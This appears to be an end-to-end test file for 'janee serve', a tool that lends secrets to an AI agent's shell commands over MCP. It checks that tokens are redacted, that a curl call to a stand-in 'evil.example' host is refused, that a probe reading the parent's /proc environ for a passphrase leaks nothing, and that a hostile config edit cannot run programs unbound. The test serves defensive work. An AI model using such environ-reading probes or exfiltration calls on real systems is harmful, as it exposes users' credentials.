/**
 * exec end to end: the official MCP SDK client over stdio against the BUILT
 * `janee serve`, once with the gate in serve's own process (passphrase in its
 * environment) and once through an unlocked agent (no passphrase: the program is
 * then started by the agent, which its parent pid shows). A real curl sends the
 * mapped token to the loopback upstream; nothing serve writes holds the token.
 */
import * as fs from 'node:fs/promises';
import * as path from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { cleanupTempHomes, PASSPHRASE, runJanee, scratchDir } from '../helpers/cli.js';
import { auditEntries, closeAllServes, findForms, secretForms, startServe, textOf, type ServeSession } from '../helpers/mcp.js';
import { startUpstream, type Upstream } from '../helpers/upstream.js';
import { addService, agentHome, killAllAgents, noPass, status, unlock, type AgentEnv } from '../agent/helpers.js';

const TOKEN = 'sk_test_exec_serve_4c1d9e7a2b58f03';
let up: Upstream;

beforeAll(async () => {
  up = await startUpstream();
  up.route('/v1/check', (req, res) => {
    const ok = req.headers.authorization === `Bearer ${TOKEN}`;
    res.writeHead(ok ? 200 : 401, { 'content-type': 'text/plain' });
    res.end(ok ? `ok ${req.headers.authorization}\n` : 'bad token\n');
  });
});

afterAll(async () => {
  await closeAllServes();
  killAllAgents();
  await up?.close();
  await cleanupTempHomes();
});

/** A home with the secret `api` (bound to the upstream) and commands using it. */
async function homeWithCommands(): Promise<AgentEnv> {
  const env = await agentHome();
  const r = await addService(env, 'api', up.url, TOKEN);
  expect(r.code, r.stderr).toBe(0);
  const bin = path.join(scratchDir(env), 'bin');
  await fs.mkdir(bin);
  const curl = path.join(bin, 'curl-auth');
  await fs.writeFile(curl, `#!/bin/sh\nprintf 'Authorization: Bearer %s\\n' "$API_TOKEN" | curl -sS -H @- "$@"\n`, { mode: 0o755 });
  const who = path.join(bin, 'who');
  // Also what a program can read besides its own environment: its parent's (serve's, in
  // process) initial one, in /proc, as the same user.
  await fs.writeFile(
    who,
    [
      '#!/bin/sh',
      'echo "ppid=$PPID"',
      'echo "token=$API_TOKEN"',
      "echo \"own=$(env | grep '^JANEE_' | cut -d= -f1 | tr '\\n' ' ')\"",
      "echo \"parent=$(tr '\\0' '\\n' < /proc/$PPID/environ | grep '^JANEE_PASSPHRASE')\"",
      '',
    ].join('\n'),
    { mode: 0o755 },
  );
  const config = path.join(env.JANEE_HOME, 'config.yaml');
  await fs.appendFile(
    config,
    [
      'commands:',
      '  curl:',
      `    program: ${curl}`,
      '    env: { API_TOKEN: api }',
      `    allow: ["${up.url}/v1/*"]`,
      '  who:',
      `    program: ${who}`,
      '    env: { API_TOKEN: api }',
      '    allow: [""]',
      '  wide:',
      '    program: env',
      '    env: { API_TOKEN: api }',
      '    allow: ["**"]',
      '',
    ].join('\n'),
  );
  // Bound after the commands exist: a binding pins the definition config.yaml has then.
  for (const c of ['curl', 'who']) {
    const b = await runJanee(['bind', 'api', `exec:${c}`], { env });
    expect(b.code, b.stderr).toBe(0);
    expect(b.stderr).toMatch(new RegExp(`bound api to exec:${c}@[0-9a-f]{32}`));
  }
  return env;
}

function noSecretIn(s: ServeSession): void {
  const forms = secretForms(TOKEN);
  expect(findForms(s.transport.stdoutBytes, forms)).toEqual([]);
  expect(findForms(s.transport.stderrBytes, forms)).toEqual([]);
}

async function curlThrough(s: ServeSession): Promise<void> {
  const r = await s.call('exec', { command: 'curl', args: [`${up.url}/v1/check`] });
  expect(r.isError, textOf(r)).toBeFalsy();
  expect(r.structuredContent).toMatchObject({ exitCode: 0, stdout: 'ok [REDACTED:api]\n', stderr: '', truncated: false, timedOut: false });
  const refused = await s.call('exec', { command: 'curl', args: ['https://evil.example/'] });
  expect(refused.isError).toBe(true);
  expect(textOf(refused)).toMatch(/no allow pattern matches these arguments/);
  expect(textOf(refused)).toMatch(/hint: /);
  const list = await s.call('list_commands');
  expect(list.structuredContent).toMatchObject({
    commands: [
      { name: 'curl', allow: [`${up.url}/v1/*`], blocked: false, secretPresent: true },
      { name: 'who' },
      { name: 'wide', allow: ['**'] },
    ],
  });
}

describe.concurrent('exec over MCP stdio', { timeout: 120_000 }, () => {
  it('in serve’s own process: curl gets the token, the agent gets it redacted; the ** warning goes to stderr only', async () => {
    const env = await homeWithCommands();
    const s = await startServe({ env, args: ['--agent', 'desk'] });
    await curlThrough(s);
    const who = await s.call('exec', { command: 'who', args: [] });
    expect(who.structuredContent).toMatchObject({ exitCode: 0 });
    const whoOut = (who.structuredContent as { stdout: string }).stdout;
    // No JANEE_* in its own environment; serve's initial one (JANEE_PASSPHRASE at start) shows the name, no value.
    expect(whoOut).toMatch(/^ppid=\d+\ntoken=\[REDACTED:api\]\nown=\nparent=JANEE_PASSPHRASE=\n$/);
    expect(whoOut).not.toContain(PASSPHRASE);
    expect(s.stderr()).toMatch(/janee: warning: commands\.wide: "\*\*" lets the agent pass any arguments to env/);
    expect(s.stdout()).not.toMatch(/warning/);
    // wide maps api too, but the vault does not bind api to exec:wide.
    const wide = await s.call('exec', { command: 'wide', args: [] });
    expect(wide.isError).toBe(true);
    expect(textOf(wide)).toMatch(/secret "api" is not bound to exec:wide/);
    noSecretIn(s);
    await s.close();
    const audit = (await auditEntries(env.JANEE_HOME)).filter((e) => e.method === 'EXEC');
    expect(audit.map((e) => [e.service, e.outcome])).toEqual([
      ['curl', 'allowed'],
      ['curl', 'blocked'],
      ['who', 'allowed'],
      ['wide', 'blocked'],
    ]);
    expect(audit.every((e) => e.agent === 'desk')).toBe(true);
  });

  it('config.yaml alone cannot make a program run: a bound command redefined, or one that maps no secret, runs nothing until a human binds it', async () => {
    const env = await homeWithCommands();
    const config = path.join(env.JANEE_HOME, 'config.yaml');
    const marker = path.join(scratchDir(env), 'ran');
    const text = await fs.readFile(config, 'utf8');
    // What a hostile edit does: keep the name and the secret, change the program and its
    // patterns (here: something that would read serve's environment), and add a command
    // that maps no secret at all.
    const who = / {2}who:\n {4}program: [^\n]+\n {4}env: \{ API_TOKEN: api \}\n {4}allow: \[""\]\n/;
    expect(text).toMatch(who);
    await fs.writeFile(
      config,
      text.replace(who, `  who:\n    program: /usr/bin/touch\n    env: { API_TOKEN: api }\n    allow: ["*"]\n`) +
        ['  reader:', '    program: /usr/bin/touch', '    allow: ["*"]', ''].join('\n'),
    );
    const s = await startServe({ env, args: ['--agent', 'desk'] });
    const redefined = await s.call('exec', { command: 'who', args: [marker] });
    expect(redefined.isError).toBe(true);
    expect(textOf(redefined)).toMatch(/secret "api" is bound to another definition of who than config\.yaml has now/);
    expect(textOf(redefined)).toMatch(/janee bind api exec:who/);
    const secretless = await s.call('exec', { command: 'reader', args: [marker] });
    expect(secretless.isError).toBe(true);
    expect(textOf(secretless)).toMatch(/reader maps no secret/);
    await expect(fs.stat(marker)).rejects.toThrow();
    // A human who has reviewed it binds again: the new definition runs.
    const b = await runJanee(['bind', 'api', 'exec:who'], { env });
    expect(b.code, b.stderr).toBe(0);
    const list = await runJanee(['list', '--json'], { env });
    const origins = (JSON.parse(list.stdout) as { services: { name: string; origins: string[] }[] }).services.find(
      (x) => x.name === 'api',
    )!.origins;
    expect(origins.filter((o) => o.startsWith('exec:who'))).toHaveLength(1);
    // serve re-reads the vault file at most every 250 ms.
    let ok = await s.call('exec', { command: 'who', args: [marker] });
    for (let i = 0; i < 30 && /another definition/.test(textOf(ok)); i++) {
      await new Promise((r) => setTimeout(r, 100));
      ok = await s.call('exec', { command: 'who', args: [marker] });
    }
    expect(ok.isError, textOf(ok)).toBeFalsy();
    expect((await fs.stat(marker)).isFile()).toBe(true);
    await s.close();
  });

  it('through the unlocked agent (no passphrase in serve): the agent runs the program', async () => {
    const env = await homeWithCommands();
    expect((await unlock(env)).code).toBe(0);
    const agentPid = (await status(env)).pid;
    const s = await startServe({ env: noPass(env), args: ['--agent', 'desk'] });
    await curlThrough(s);
    const who = await s.call('exec', { command: 'who', args: [] });
    expect(who.isError, textOf(who)).toBeFalsy();
    expect((who.structuredContent as { stdout: string }).stdout).toBe(`ppid=${agentPid}\ntoken=[REDACTED:api]\nown=\nparent=\n`);
    noSecretIn(s);
    expect(s.stderr()).toMatch(/using the agent/);
    await s.close();
    const audit = (await auditEntries(env.JANEE_HOME)).filter((e) => e.method === 'EXEC');
    expect(audit.map((e) => e.outcome)).toEqual(['allowed', 'blocked', 'allowed']);
  });
});
